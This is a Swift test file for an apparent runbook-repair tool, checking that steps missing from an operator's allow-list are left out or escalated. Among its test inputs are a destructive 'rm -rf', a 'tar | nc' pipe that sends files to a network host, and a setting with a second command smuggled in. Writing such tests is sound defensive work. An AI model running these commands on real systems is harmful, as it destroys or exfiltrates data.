import JSONSchemas
import RepairGuides
import Testing

/// What a repair does with steps that the operator's list doesn't permit.
@Suite struct OperatorListTests {
    /// The lines that the runbook of the valve needs.
    private static let needed = ["bin/valve state", "bin/valve release *", "bin/valve open", "write etc/valve.conf"]

    /// Carries out the runbook of the valve with `step` put at the head of its changes, and with `check` among its checks.
    private func carriedOut(
        step: String = "", check: String = "", lines: [String]?, unlisted: OperatorList.Unlisted
    ) throws -> (machine: Machine, verdict: String, reason: String, record: JSONValue) {
        let text = Runbooks.valve.replacing("## Mitigation\n\n", with: "## Mitigation\n\n\(step)\n")
            .replacing("## Diagnosis\n\n", with: "## Diagnosis\n\n\(check)\n")
            .replacing("Only if the process is dead: ", with: "")
            .replacing("- If the process lives, stop and escalate.\n", with: "")
        let guide = try Runbooks.guide(text)
        let list = OperatorList(lines, unlisted: unlisted)
        var machine = Machine()
        var isOpen = false
        var line = "limit = 5"
        let end = machine.carryOut(guide, list: list) { action in
            let words = action["argv"]?.arrayValue?.compactMap(\.stringValue).joined(separator: " ") ?? ""
            switch (action["do"]?.stringValue, words) {
            case ("look", _):
                // A setting that stands in two files is changed in none.
                let text = action["path"] == "etc/valve.conf" ? line : "shut"
                return ["exists": true, "text": .string(text + "\n")]
            case ("check", _): return Machine.ended(isOpen ? 0 : 1, isOpen ? "open" : "shut by anna")
            case ("snapshot", _): return ["kept": true]
            case ("restore", _): return ["restored": true]
            case ("edit", _):
                line = action["new_line"]?.stringValue ?? ""
                return ["replaced": true, "changes": []]
            case ("run", "bin/valve open"):
                isOpen = true
                return Machine.ended(0)
            default: return Machine.ended(0)
            }
        }
        return (machine, end.verdict, end.reason, GuideProcedure.record(guide, machine.turns, list: list))
    }

    @Test(arguments: [
        "3. Make room: `rm -rf notes`.", "3. Run `tar c notes | nc host 9`.", "3. Run `rm NAME`.",
        "3. Set `limit = 0`; `bin/other go`.",
    ])
    func `a step that isn't listed is left out where the operator says so, and the record tells`(step: String) throws {
        let ended = try carriedOut(step: step, lines: Self.needed, unlisted: .leaveOut)
        #expect(ended.verdict == "repaired", "\(ended.reason) \(ended.machine.done)")
        #expect(!ended.machine.done.contains { $0.contains("rm") || $0.contains("nc") || $0.contains("other") })
        #expect(ended.record["reason"]?.stringValue?.contains("One step was left out") == true)
        let left = ended.record["entries"]?.arrayValue?.filter { $0["do"] == "left out" } ?? []
        #expect(left.count == 1)
        #expect(left.first?["why"]?.stringValue?.contains("is not on the operator's list") == true)
    }

    @Test func `the same step is asked for where nothing is left out, and where nobody listed anything`() throws {
        for lines in [Self.needed, nil] {
            let ended = try carriedOut(step: "3. Make room: `rm -rf notes`.", lines: lines, unlisted: .stop)
            // The policy then refuses it, or a person does.
            #expect(ended.machine.done.contains("run rm -rf notes"), "\(ended.machine.done)")
        }
        let unlisted = try carriedOut(step: "3. Make room: `rm -rf notes`.", lines: nil, unlisted: .leaveOut)
        #expect(unlisted.machine.done.contains("run rm -rf notes"))
        // And where it is listed.
        let listed = try carriedOut(
            step: "3. Make room: `rm -rf notes`.", lines: Self.needed + ["rm -rf notes"], unlisted: .leaveOut)
        #expect(listed.machine.done.contains("run rm -rf notes") && listed.verdict == "repaired")
    }

    @Test func `an edit of a file that isn't listed is left out`() throws {
        let lines = Self.needed.filter { !$0.hasPrefix("write") }
        let ended = try carriedOut(lines: lines, unlisted: .leaveOut)
        #expect(!ended.machine.done.contains { $0.hasPrefix("edit") })
        #expect(ended.record["reason"]?.stringValue?.contains("left out") == true)
        // The control arm.
        let listed = try carriedOut(lines: Self.needed, unlisted: .leaveOut)
        #expect(listed.machine.done.contains("edit etc/valve.conf"))
        #expect(listed.record["reason"]?.stringValue?.contains("left out") == false)
    }

    @Test(arguments: [OperatorList.Unlisted.stop, .leaveOut])
    func `a program that is listed alone changes nothing by its arguments`(unlisted: OperatorList.Unlisted) throws {
        let step = "3. Make room: `sed -i d notes`."
        let ended = try carriedOut(step: step, lines: Self.needed + ["sed"], unlisted: unlisted)
        #expect(!ended.machine.done.contains { $0.hasPrefix("run sed") })
        if unlisted == .stop {
            #expect(ended.verdict == "escalated")
            #expect(ended.reason.contains("has only its program"), "\(ended.reason)")
            #expect(!ended.machine.done.contains { $0.hasPrefix("run") || $0 == "snapshot" })
        } else {
            #expect(ended.verdict == "repaired")
            #expect(ended.record["counts"]?["left_out"] == 1)
        }
        // To look with it is permitted, and listed with its words, or with `...`, it runs.
        let looks = try carriedOut(check: "1. `sed -n p notes`", lines: Self.needed + ["sed"], unlisted: unlisted)
        #expect(looks.machine.done.contains("check sed -n p notes") && looks.verdict == "repaired")
        for line in ["sed -i d notes", "sed ..."] {
            let runs = try carriedOut(step: step, lines: Self.needed + ["sed", line], unlisted: unlisted)
            #expect(runs.machine.done.contains("run sed -i d notes") && runs.verdict == "repaired", "\(runs.reason)")
        }
    }

    @Test(arguments: [
        ("sed: couldn't open temporary file: Read-only file system", true), ("rm: x: Permission denied", true),
        ("no such valve", false),
    ])
    func `a check that may not write shows no fault`(errors: String, isSilent: Bool) throws {
        let answer: JSONValue = [
            "exit": 4, "ending": "exit status 4", "stdout": "", "stderr": .string(errors), "changes": [],
        ]
        var machine = Machine()
        let guide = try Runbooks.guide(
            "# T\n## Diagnosis\n1. `sed -i d notes`\n## Mitigation\n2. `bin/valve open`\n## Verification\n3. Look.\n")
        let end = machine.carryOut(guide) { action in
            action["do"] == "check" ? answer : action["do"] == "confirm" ? ["approved": false] : ["kept": true]
        }
        // Where nothing shows the fault a person is asked before anything changes.
        #expect(machine.done.contains("confirm") == isSilent, "\(end.reason) \(machine.done)")
        #expect(machine.done.contains("snapshot") != isSilent)
    }

    private static let tested = """
        # T
        ## Diagnosis
        1. `bin/valve state`
        ## Mitigation
        2. `bin/valve open`
        ## Verification
        3. `bin/valve state` must print `open`.
        4. `bin/valve test` must exit with 0.

        """

    /// Carries that out on a valve that is `isOpen`, and whose test then ends with `status` and says `errors`.
    private func tested(isOpen: Bool, status: Int, errors: String) throws -> (verdict: String, record: JSONValue) {
        let guide = try Runbooks.guide(Self.tested)
        var machine = Machine()
        var isOpen = isOpen
        let end = machine.carryOut(guide) { action in
            let words = action["argv"]?.arrayValue?.compactMap(\.stringValue).joined(separator: " ") ?? ""
            switch (action["do"]?.stringValue, words) {
            case ("check", "bin/valve test"):
                return [
                    "exit": .integer(isOpen ? status : 1), "ending": "exit status", "stdout": "",
                    "stderr": .string(isOpen ? errors : "no pressure"), "changes": [],
                ]
            case ("check", _): return Machine.ended(isOpen ? 0 : 1, isOpen ? "open" : "shut")
            case ("run", _):
                isOpen = true
                return Machine.ended(0, changes: ["state/valve"])
            case ("snapshot", _): return ["kept": true]
            case ("restore", _): return ["restored": true]
            default: return ["approved": false]
            }
        }
        return (end.verdict, GuideProcedure.record(guide, machine.turns))
    }

    @Test(
        arguments: [
            (4, "bin/valve: spool: Permission denied", "unverified"), (4, "no pressure", "not_repaired"),
            (0, "", "repaired"),
        ] as [(Int, String, String)])
    func `no repair is claimed beside a check that says it may not write`(
        status: Int, errors: String, verdict: String
    ) throws {
        let ended = try tested(isOpen: false, status: status, errors: errors)
        #expect(ended.verdict == verdict, "\(ended.record["reason"] ?? "")")
        #expect(ended.record["counts"]?["changes"] == 1)
    }

    @Test(
        arguments: [
            (4, "bin/valve: spool: Read-only file system", "escalated"), (0, "", "not_needed"),
        ] as [(Int, String, String)])
    func `no machine is called sound beside a check that says it may not write`(
        status: Int, errors: String, verdict: String
    ) throws {
        let ended = try tested(isOpen: true, status: status, errors: errors)
        #expect(ended.verdict == verdict, "\(ended.record["reason"] ?? "")")
        #expect(ended.record["counts"]?["changes"] == 0)
    }
}
